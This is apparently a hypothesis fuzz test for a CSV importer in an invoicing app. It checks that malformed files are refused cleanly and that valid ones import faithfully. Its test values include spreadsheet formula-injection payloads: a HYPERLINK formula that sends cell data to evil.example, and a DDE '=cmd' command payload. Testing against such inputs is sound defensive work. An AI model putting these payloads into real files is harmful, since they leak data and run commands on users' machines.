"""Any CSV file (hypothesis): the import either refuses it with `FILE:LINE: …` errors and writes
nothing, or imports rows that a second import finds unchanged and that read back as written;
never a traceback.

Files vary in encoding (UTF-8 with and without BOM, UTF-16, cp1252), delimiter, quoting, line
endings, header (missing, unknown, repeated columns) and cell values: huge and odd numbers
(`99999999999999999999999999999999`, `NaN`, `Infinity`, `1e6`, `-5`), dates at the ends of
the calendar, formulas, NUL and control characters, very long text; or random bytes.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import itertools
import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, example, given, reject, settings
from hypothesis import strategies as st
from sqlmodel import select

from storage.db import Database
from storage.importers import ImportReport, import_csv
from storage.importers.base import Context
from storage.importers.run import FORMATS
from storage.models import Customer, Invoice
from tests.integration.test_importers import counts

TODAY = dt.date(2026, 11, 23)
CONTEXT = Context("IDR", "id", "Asia/Jakarta", TODAY)
COLUMNS = {kind.value: tuple(spec.parsers(CONTEXT)) for kind, spec in FORMATS.items()}
REQUIRED = {kind.value: tuple(sorted(spec.required)) for kind, spec in FORMATS.items()}
NUMBERS = (
    "99999999999999999999999999999999",
    "999999999999999.99",
    "1000000000000000",
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "1e6",
    "1E+400",
    "-5",
    "-0",
    "0",
    "0.001",
    "5.000.000",
    "Rp 5.000.000,-",
    "1.250.000,50",
    "5,000.00",
    "١٢٣",  # Arabic-Indic digits
    "²",
    "",
)
DATES = (
    "0001-01-01",
    "9999-12-31",
    "2026-02-29",
    "2024-02-29",
    "31/12/2025",
    "2026-11-23",
    "2026-01-15",
    "2026-13-01",
    "00/00/0000",
    "",
)
NASTY = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\x00",
    "a\x00b",
    "\r",
    "line\nbreak",
    '"quoted"',
    "semi;colon",
    "comma,inside",
    "\u202eRTL",
    "😀",
    "x" * 300,
    " padded ",
    "",
)
CODES = ("C1", "C2", "C3", "INV-1", "INV-2", "P-1", "c1", "")


def cells(column: str) -> st.SearchStrategy[str]:
    """Values for one column: what belongs there, what does not, and anything."""
    if column in ("amount", "balance"):
        typed = st.one_of(
            st.sampled_from(NUMBERS),
            st.decimals(allow_nan=True, allow_infinity=True, places=None).map(str),
            st.integers(min_value=-(10**40), max_value=10**40).map(str),
        )
    elif column in ("issue_date", "due_date", "paid_on"):
        typed = st.one_of(
            st.sampled_from(DATES),
            st.dates().map(lambda d: d.isoformat()),
            st.dates(dt.date(2010, 1, 1), dt.date(2027, 1, 1)).map(lambda d: d.isoformat()),
        )
    elif column in ("code", "number", "customer", "invoice", "reference"):
        typed = st.sampled_from(CODES)
    elif column in ("phone", "whatsapp"):
        typed = st.sampled_from(("0812-3456-7890", "+62 812 3456 7890", "62857", "+1", "abc", ""))
    elif column == "telegram":
        typed = st.sampled_from(("-100123", "555", "0", "9" * 30, "x", ""))
    elif column == "email":
        typed = st.sampled_from(("a@b.example", "=cmd@evil.example", "@", "a@b", ""))
    elif column in ("language", "timezone", "currency"):
        typed = st.sampled_from(("id", "en", "xx", "Asia/Makassar", "Mars/Olympus", "IDR", "usd"))
    else:
        typed = st.sampled_from(NASTY)
    return st.one_of(typed, st.sampled_from(NASTY), st.text(max_size=20))


#: Text a person could type in a name or an item, formulas included (they import, flagged).
plain_text = st.one_of(
    st.text(min_size=1, max_size=40),
    st.sampled_from(NASTY[:5] + NASTY[8:14]),
).filter(lambda text: text.strip() != "" and "\x00" not in text)
CLEAN: dict[str, st.SearchStrategy[str]] = {
    "name": plain_text,
    "item": plain_text,
    "segment": plain_text,
    "method": st.sampled_from(("transfer", "QRIS", "=1+1", "")),
    "email": st.sampled_from(("a@b.example", "=cmd@evil.example", "")),
    "phone": st.sampled_from(("0812-3456-7890", "+62 812 3456 7891", "")),
    "whatsapp": st.sampled_from(("6285712345678", "")),
    "telegram": st.sampled_from(("-100123", "555", "")),
    "language": st.sampled_from(("id", "en", "")),
    "timezone": st.sampled_from(("Asia/Makassar", "")),
    "currency": st.sampled_from(("IDR", "USD", "")),
    "salesperson": st.sampled_from(("Budi", "-Siti", "")),
    "collector": st.sampled_from(("Rina", "")),
    "policy": st.just(""),
    "balance": st.just(""),
    "customer": st.sampled_from(("C1", "C2")),
    "invoice": st.just("INV-1"),
    "issue_date": st.dates(dt.date(2026, 1, 1), dt.date(2026, 6, 30)).map(str),
    "due_date": st.dates(dt.date(2026, 7, 1), dt.date(2026, 12, 31)).map(str),
    "paid_on": st.dates(dt.date(2026, 1, 1), TODAY).map(str),
    "amount": st.one_of(
        st.integers(1, 10**6).map(str),
        st.sampled_from(("5.000.000", "Rp 5.000.000,-", "1.250.000,50", "5,000.00", "12,5")),
    ),
}
#: The one odd cell put in an otherwise clean file: the file must fail on it alone, or take it.
ODD = {
    "amount": ("99999999999999999999999999999999", "NaN", "Infinity", "1e6", "-5"),
    "balance": ("99999999999999999999999999999999", "NaN", "-0", "-5", "1"),
    "issue_date": ("0001-01-01", "9999-12-31", "2026-02-29"),
    "due_date": ("0001-01-01", "9999-12-31", "2025-12-31"),
    "paid_on": ("0001-01-01", "9999-12-31", "2099-01-01"),
}
KEYS = {"customers": "code", "invoices": "number", "payments": "reference"}
key_text = st.text("ABCXYZ-019", min_size=1, max_size=6)


@dataclass(frozen=True)
class CsvFile:
    """A generated file: its bytes, and the rows as written when they can be read back."""

    kind: str
    data: bytes
    rows: tuple[dict[str, str], ...] | None  # None: not plainly readable (encoding, framing)


ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "cp1252")


@st.composite
def csv_files(draw: st.DrawFn) -> CsvFile:
    kind = draw(st.sampled_from(sorted(COLUMNS)))
    if draw(st.integers(0, 9)) == 0:  # now and then, no CSV at all
        return CsvFile(kind, draw(st.binary(max_size=400)), None)
    columns = list(COLUMNS[kind])
    header = draw(
        st.lists(st.sampled_from(columns), min_size=1, max_size=len(columns), unique=True)
    )
    clean = draw(st.booleans())  # half the files hold only values that belong
    if clean or draw(st.booleans()):  # a header the importer accepts
        header = [*REQUIRED[kind], *(c for c in header if c not in REQUIRED[kind])]
    if not clean and draw(st.integers(0, 5)) == 0:
        header.append(draw(st.sampled_from(("unknown", "", header[0].upper(), header[0]))))
    if clean:
        key = KEYS[kind]
        values = {c: CLEAN[c] for c in header if c != key} | {key: key_text}
        rows = draw(
            st.lists(
                st.fixed_dictionaries(values), min_size=1, max_size=5, unique_by=lambda r: r[key]
            )
        )
        odd = [column for column in header if column in ODD]
        if rows and odd and draw(st.booleans()):
            row, column = draw(st.sampled_from(rows)), draw(st.sampled_from(odd))
            row[column] = draw(st.sampled_from(ODD[column]))
    else:
        rows = draw(st.lists(st.fixed_dictionaries({c: cells(c) for c in header}), max_size=5))
    delimiter = draw(st.sampled_from((",", ";") if clean else (",", ";", ",", "\t", "|")))
    quotings = (csv.QUOTE_MINIMAL, csv.QUOTE_ALL)
    quoting = draw(st.sampled_from(quotings if clean else (*quotings, csv.QUOTE_NONE)))
    ending = draw(st.sampled_from(("\n", "\r\n")))
    text = io.StringIO()
    # An escape character only where nothing is quoted: Python's reader, like Excel's
    # files, knows no escapes, and a writer with one would double every backslash.
    escape = "\\" if quoting == csv.QUOTE_NONE else None
    writer = csv.writer(
        text, delimiter=delimiter, quoting=quoting, escapechar=escape, lineterminator=ending
    )
    try:
        writer.writerow(header)
        for row in rows:
            writer.writerow([row[c] for c in header])
    except csv.Error:  # what the writer cannot write unquoted (a lone empty field)
        reject()
    if not clean and draw(st.integers(0, 5)) == 0:
        text.write(draw(st.sampled_from(('"unterminated', ",,,", "\n\n", "\x00", "x" * 5000))))
    encoding = draw(st.sampled_from(ENCODINGS[:2] if clean else ENCODINGS))
    data = text.getvalue().encode(encoding, errors="replace")
    readable = (
        encoding in ("utf-8", "utf-8-sig")
        and quoting != csv.QUOTE_NONE
        and delimiter in (",", ";")
        and len(set(header)) == len(header)
    )
    return CsvFile(kind, data, tuple(rows) if readable else None)


@dataclass
class World:
    """A migrated SQLite file with two customers and an invoice for payments to name."""

    url: str
    folder: Path
    serial: Iterator[int]

    def write(self, data: bytes) -> Path:
        path = self.folder / f"fuzz-{next(self.serial)}.csv"
        path.write_bytes(data)
        return path


@pytest.fixture(scope="module")
def world(sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory) -> World:
    folder = tmp_path_factory.mktemp("fuzz-csv")
    shutil.copy(sqlite_template, folder / "tagih.db")
    world = World(f"sqlite+aiosqlite:///{folder / 'tagih.db'}", folder, itertools.count())
    base = (
        ("customers", b"code,name\nC1,PT Satu\nC2,PT Dua\n"),
        (
            "invoices",
            b"number,customer,issue_date,due_date,amount\nINV-1,C1,2026-01-01,2026-02-01,900000000000\n",
        ),
    )

    async def seed() -> None:
        db = Database(world.url)
        try:
            for kind, data in base:
                assert (await import_csv(db, kind, world.write(data), today=TODAY)).ok
        finally:
            await db.dispose()

    asyncio.run(seed())
    return world


def check_errors(report: ImportReport, path: Path, data: bytes) -> None:
    """Every error names the file and a line of it, and says why."""
    lines = data.count(b"\n") + 1
    pattern = re.compile(rf"^{re.escape(str(path))}:(\d+): (?:[a-z_]+: )?\S")
    for error in report.errors:
        match = pattern.match(str(error))
        assert match is not None, str(error)
        assert 1 <= int(match.group(1)) <= lines, str(error)
        assert error.column == "" or error.column in COLUMNS[report.kind], str(error)


async def round_trip(world: World, sample: CsvFile) -> None:
    db = Database(world.url)
    try:
        before = await counts(db)
        path = world.write(sample.data)
        report = await import_csv(db, sample.kind, path, today=TODAY)  # never raises
        event(f"{sample.kind}: {'imported' if report.ok else 'refused'}")
        # Formula warnings only ever concern text columns, and cells a spreadsheet would run.
        texts = set(FORMATS[report.kind].texts)
        assert all(w.column in texts and w.reason for w in report.warnings), report.warnings
        if not report.ok:
            check_errors(report, path, sample.data)
            assert await counts(db) == before  # nothing written
            return
        again = await import_csv(db, sample.kind, path, today=TODAY)
        assert again.ok, [str(e) for e in again.errors]
        assert (again.created, again.updated, again.unchanged) == (0, 0, report.rows)
        if sample.rows is not None:
            await read_back(db, sample)
    finally:
        await db.dispose()


async def read_back(db: Database, sample: CsvFile) -> None:
    """What the file says is what the database holds."""
    async with db.sessions() as session:
        if sample.kind == "customers":
            for row in sample.rows or ():
                customer = (
                    await session.exec(select(Customer).where(Customer.code == row["code"].strip()))
                ).one()
                assert customer.name == row["name"].strip()
        elif sample.kind == "invoices":
            for row in sample.rows or ():
                invoice = (
                    await session.exec(
                        select(Invoice).where(Invoice.number == row["number"].strip())
                    )
                ).one()
                assert invoice.amount > 0 and 0 <= invoice.balance <= invoice.amount
                if "item" in row:
                    assert invoice.item == row["item"].strip()


@example(
    sample=CsvFile(
        "invoices",
        b"number,customer,issue_date,due_date,amount\n"
        b"I-9,C1,2026-01-01,2026-02-01,99999999999999999999999999999999\n",
        None,
    )
)
@example(sample=CsvFile("customers", b'code,name\nF1,"=HYPERLINK(""http://x.example"")"\n', None))
@settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(sample=csv_files())
def test_any_csv_is_refused_clearly_or_imported_faithfully(world: World, sample: CsvFile) -> None:
    asyncio.run(round_trip(world, sample))
